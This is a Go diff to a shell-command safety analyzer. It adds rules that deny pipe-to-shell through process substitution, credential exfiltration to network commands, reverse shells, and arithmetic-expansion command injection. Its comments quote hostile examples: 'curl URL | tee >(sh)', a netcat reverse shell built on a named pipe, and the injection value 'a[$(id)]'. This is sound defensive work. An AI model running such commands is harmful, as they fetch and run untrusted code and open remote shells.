@@ -16,6 +16,7 @@ const (
 	effShellStdin                 // runs code read from stdin (sh, bash -s, python -)
 	effCredRead                   // writes a credential file to stdout
 	effNetwork                    // talks to the network (and may send its stdin)
+	effStdinCode                  // runs code from stdin that is not known (sh -i fed by a pipe or a file)
 )
 
 // source is the text being judged: the top-level command, or a nested script (sh -c,
@@ -53,6 +54,12 @@ type analyzer struct {
 	funcCwd  map[string]string            // functions whose body changes the directory: name → directory ("" unknown)
 	procText map[*syntax.ProcSubst]string // process substitutions whose output is known text
 	written  map[string]string            // files written earlier in the command with known content (dyn when unknown)
+	aliased  map[string]bool              // name references and their targets (declare -n): their values are never known
+	refOpen  map[string]bool              // name references whose target is only known at run time
+	cdpath   string                       // CDPATH set in this command ("" when not set; dyn when unknown)
+	credCopy map[string]bool              // files and directories given credential content earlier in the command
+	outSubst eff                          // effects of the >(…) process substitutions of the statement being judged
+	pipeIn   eff                          // effects of the earlier stages of the pipeline whose stage is being judged
 
 	curDialect Dialect           // dialect of the script being judged
 	verb       string            // how the command being judged changes the paths it writes ("Deleting" …); "" is writing
@@ -179,6 +186,8 @@ func (a *analyzer) stmt(s *syntax.Stmt) eff {
 	a.depth++
 	defer func() { a.depth-- }()
 	bg := a.bg
+	outer := a.outSubst
+	a.outSubst = 0
 	if s.Background || s.Coprocess || s.Disown {
 		a.addNode("background.job", Ask, s, "This runs in the background")
 		a.bg = true
@@ -206,6 +215,18 @@ func (a *analyzer) stmt(s *syntax.Stmt) eff {
 	if len(s.Redirs) > 0 {
 		a.recordWritten(s, e)
 	}
+	if out := a.outSubst; out != 0 {
+		// curl URL > >(sh), curl URL | tee >(sh): a >(…) substitution reads what the
+		// command writes (or, for tee, what it reads).
+		data := e | a.pipeIn
+		if out&effShellStdin != 0 && data&(effFetch|effDecode) != 0 {
+			a.addNode("network.pipe-to-shell", Deny, s, "Downloaded or decoded content is fed to a shell through a process substitution")
+		}
+		if out&effNetwork != 0 && data&effCredRead != 0 {
+			a.addNode("exfil.credential", Deny, s, "A credential file is fed to a network command through a process substitution")
+		}
+	}
+	a.outSubst = outer
 	return e
 }
 
@@ -351,7 +372,9 @@ func (a *analyzer) pipeline(x *syntax.BinaryCmd) eff {
 		if i > 0 {
 			a.pipeText, a.pipeKnown = literalOutput(a, stages[i-1])
 		}
+		a.pipeIn = before
 		e := a.stmt(st)
+		a.pipeIn = 0
 		a.pipeText, a.pipeKnown = "", false
 		a.cwd = cwd
 		if e&effShellStdin != 0 && before&(effFetch|effDecode) != 0 {
@@ -359,6 +382,10 @@ func (a *analyzer) pipeline(x *syntax.BinaryCmd) eff {
 		}
 		if e&effNetwork != 0 && before&effCredRead != 0 {
 			a.addNode("exfil.credential", Deny, st, "A credential file is piped to a network command")
+		}
+		if e&effNetwork != 0 && before&effStdinCode != 0 {
+			// cat /tmp/f | sh -i 2>&1 | nc host 1 > /tmp/f
+			a.addNode("network.reverse-shell", Deny, st, "A shell that runs commands from its input sends its output to a network command")
 		}
 		before |= e
 		all |= e
@@ -465,9 +492,49 @@ func (a *analyzer) arith(x syntax.ArithmExpr) {
 		a.arith(n.X)
 	case *syntax.Word:
 		a.wordEffects(n)
+		a.arithOperand(n)
 	default:
 		a.addNode("parse.unknown-node", Ask, x, "This arithmetic expression is not judged")
 	}
+}
+
+// arithOperand judges the value bash evaluates again for an arithmetic operand: a variable
+// named by the operand (x, $x, ${x}) whose known value is itself an expression, where
+// a[$(cmd)] runs cmd (x='a[$(id)]'; (( x ))). Names are followed as bash follows them.
+func (a *analyzer) arithOperand(w *syntax.Word) {
+	name := w.Lit()
+	if len(w.Parts) == 1 {
+		if pe, ok := w.Parts[0].(*syntax.ParamExp); ok && pe.Param != nil && pe.Exp == nil && pe.Index == nil && !pe.Excl && !pe.Length && pe.Repl == nil && pe.Slice == nil {
+			name = pe.Param.Value
+		}
+	}
+	for range 8 {
+		if !validName(name) {
+			return
+		}
+		v, ok := a.paramValue(name)
+		if !ok {
+			return
+		}
+		if evaluated(v) {
+			a.evalCode(v, w)
+			return
+		}
+		name = strings.TrimSpace(v)
+	}
+}
+
+// evaluated reports whether text that bash evaluates again holds command substitutions.
+func evaluated(v string) bool {
+	return strings.Contains(v, "$(") || strings.Contains(v, "`") || strings.Contains(v, "$[")
+}
+
+// evalCode judges the command substitutions in v, a value bash evaluates again when it
+// expands node (an arithmetic operand, ${!x}, ${x@P}).
+func (a *analyzer) evalCode(v string, node syntax.Node) {
+	c := a.newCall(int(node.Pos().Offset()), int(node.End().Offset()))
+	defer a.freeCall(c)
+	a.subscriptCode(lit(v), c)
 }
 
 // test walks a [[ ]] expression for substitutions.
@@ -484,6 +551,15 @@ func (a *analyzer) test(x syntax.TestExpr) {
 	case *syntax.BinaryTest:
 		a.test(n.X)
 		a.test(n.Y)
+		switch n.Op {
+		case syntax.TsEql, syntax.TsNeq, syntax.TsLss, syntax.TsLeq, syntax.TsGtr, syntax.TsGeq:
+			// [[ $x -eq 1 ]] evaluates both operands as arithmetic expressions.
+			for _, t := range []syntax.TestExpr{n.X, n.Y} {
+				if w, ok := t.(*syntax.Word); ok {
+					a.arithOperand(w)
+				}
+			}
+		}
 	case *syntax.UnaryTest:
 		if w, ok := n.X.(*syntax.Word); ok && n.Op == syntax.TsVarSet {
 			c := a.newCall(int(n.Pos().Offset()), int(n.End().Offset()))
